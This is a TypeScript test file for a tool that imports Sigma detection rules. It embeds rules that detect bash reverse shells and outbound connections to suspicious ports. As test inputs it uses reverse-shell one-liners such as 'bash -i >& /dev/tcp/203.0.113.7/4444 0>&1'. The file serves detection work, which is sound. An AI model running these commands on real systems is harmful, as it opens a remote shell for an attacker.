import type { VmiEvent } from '../introspect/events/event.js';
import { Detector } from './detector.js';
import { loadRuleFiles } from './load.js';
import { importSigma } from './sigma.js';

const REVERSE_SHELL = `
title: Linux Reverse Shell Indicator
id: 83dcd9f6-9ca8-4af7-a16e-a1c7a6b51871
status: test
description: Detects a bash reverse shell command line.
tags:
  - attack.execution
  - attack.t1059.004
logsource:
  product: linux
  category: process_creation
detection:
  selection_shell:
    Image|endswith:
      - '/bash'
      - '/sh'
  selection_redirect:
    CommandLine|contains|all:
      - '/dev/tcp/'
      - '>&'
  filter_main:
    ParentImage: '/usr/lib/*/helper'
  condition: all of selection_* and not 1 of filter_*
falsepositives:
  - Administrators testing
level: high
`;

const NETWORK = `
title: Outbound to a suspicious port
logsource: { product: linux, category: network_connection }
detection:
  selection:
    DestinationPort: [4444, 1337]
  filter:
    DestinationIp|cidr: ['10.0.0.0/8', '192.168.0.0/16']
  condition: selection and not filter
level: medium
`;

function exec(
  commandLine: string,
  executable = '/bin/bash',
  parent = '/usr/bin/python3',
): VmiEvent {
  return {
    type: 'process.exec',
    domain: 'g',
    time: 1,
    process: { pid: 7, executable, command_line: commandLine, parent: { executable: parent } },
  };
}

function fired(yaml: string, events: VmiEvent[]): string[] {
  const loaded = loadRuleFiles([{ file: 'imported.yaml', text: yaml }]);
  expect(loaded.errorCount).toBe(0);
  const detector = new Detector(loaded.ruleset);
  const ids: string[] = [];
  for (const event of events) detector.process(event, (finding) => ids.push(finding.rule.id));
  return ids;
}

describe('importSigma', () => {
  it('maps selections, modifiers and 1 of / all of into a rule that loads and fires', () => {
    const result = importSigma([{ file: 'rs.yml', text: REVERSE_SHELL }]);
    expect(result.diagnostics).toEqual([]);
    expect(result.imported).toEqual([
      { title: 'Linux Reverse Shell Indicator', id: 'sigma-83dcd9f6-9ca8-4af7-a16e-a1c7a6b51871' },
    ]);
    expect(result.yaml).toContain('severity: high');
    expect(result.yaml).toContain('attack.t1059.004');
    const id = 'sigma-83dcd9f6-9ca8-4af7-a16e-a1c7a6b51871';
    expect(fired(result.yaml, [exec('bash -i >& /dev/tcp/203.0.113.7/4444 0>&1')])).toEqual([id]);
    expect(fired(result.yaml, [exec('bash -i >& /DEV/TCP/203.0.113.7/4444 0>&1')])).toEqual([id]);
    expect(fired(result.yaml, [exec('bash /dev/tcp/x')])).toEqual([]);
    expect(fired(result.yaml, [exec('bash -i >& /dev/tcp/x 0>&1', '/usr/bin/zsh')])).toEqual([]);
    expect(
      fired(result.yaml, [exec('bash -i >& /dev/tcp/x', '/bin/sh', '/usr/lib/x/helper')]),
    ).toEqual([]);
  });

  it('maps network connections, lists of values and cidr', () => {
    const result = importSigma([{ file: 'net.yml', text: NETWORK }]);
    expect(result.diagnostics).toEqual([]);
    const connect = (ip: string, port: number): VmiEvent => ({
      type: 'network.connect',
      domain: 'g',
      time: 1,
      network: { destination_ip: ip, destination_port: port },
    });
    expect(
      fired(result.yaml, [
        connect('203.0.113.9', 4444),
        connect('10.1.1.1', 4444),
        connect('203.0.113.9', 443),
      ]),
    ).toEqual(['sigma-outbound-to-a-suspicious-port']);
  });

  it('reports what does not map, rule by rule, and keeps the rest', () => {
    const text = [
      REVERSE_SHELL,
      'title: Windows thing\nlogsource: { product: windows, category: process_creation }\ndetection: { sel: { Image: x }, condition: sel }',
      'title: Keywords\nlogsource: { product: linux, category: process_creation }\ndetection: { keywords: [evil, bad], condition: keywords }',
      'title: Base64\nlogsource: { product: linux, category: process_creation }\ndetection: { sel: { CommandLine|base64: x }, condition: sel }',
      'title: Unknown field\nlogsource: { product: linux, category: process_creation }\ndetection: { sel: { LogonId: 7 }, condition: sel }',
      'title: Count\nlogsource: { product: linux, category: process_creation }\ndetection: { sel: { Image: x }, condition: sel | count() > 5 }',
    ].join('\n---\n');
    const result = importSigma([{ file: 'mixed.yml', text }]);
    expect(result.imported).toHaveLength(1);
    expect(
      result.diagnostics.map(
        (d) => `${d.at.line} ${d.code} ${d.message.replace(/\(mapped.*$/, '')}`,
      ),
    ).toEqual([
      '29 SIGMA_UNMAPPED Windows thing: log source {"product":"windows","category":"process_creation"} has no Ringside event ',
      "33 SIGMA_UNMAPPED Keywords: 'keywords' is a keyword list (full-text search), which Ringside events do not have",
      "37 SIGMA_UNMAPPED Base64: modifier 'base64' (on CommandLine) is not supported",
      "41 SIGMA_UNMAPPED Unknown field: field 'LogonId' has no Ringside equivalent for process.exec",
      "45 SIGMA_UNMAPPED Count: aggregations ('|' in the condition) are not supported; use a Ringside threshold",
    ]);
  });

  it('keeps Sigma wildcards as globs and escaped ones as literal characters', () => {
    const result = importSigma([
      {
        file: 'w.yml',
        text: 'title: W\nlogsource: { product: linux, category: process_creation }\ndetection:\n  sel:\n    CommandLine: "run \\\\* now*"\n  condition: sel\n',
      },
    ]);
    expect(result.diagnostics).toEqual([]);
    expect(fired(result.yaml, [exec('run * now please')])).toEqual(['sigma-w']);
    expect(fired(result.yaml, [exec('run x now please')])).toEqual([]);
  });

  it('imports fields no detector fills yet, and lint says the rule cannot fire', () => {
    const result = importSigma([
      {
        file: 'u.yml',
        text: 'title: Root shell\nlogsource: { product: linux, category: process_creation }\ndetection:\n  sel:\n    User: root\n    ParentCommandLine|contains: nginx\n  condition: sel\n',
      },
    ]);
    expect(result.diagnostics).toEqual([]);
    const loaded = loadRuleFiles([{ file: 'u.yaml', text: result.yaml }]);
    expect(loaded.errorCount).toBe(0);
    expect(
      loaded.diagnostics.filter((d) => d.code === 'UNFILLED_FIELD').map((d) => d.message),
    ).toEqual([
      "no detector fills 'user.name' yet: a condition on it cannot hold",
      "no detector fills 'process.parent.command_line' yet: a condition on it cannot hold",
    ]);
  });
});
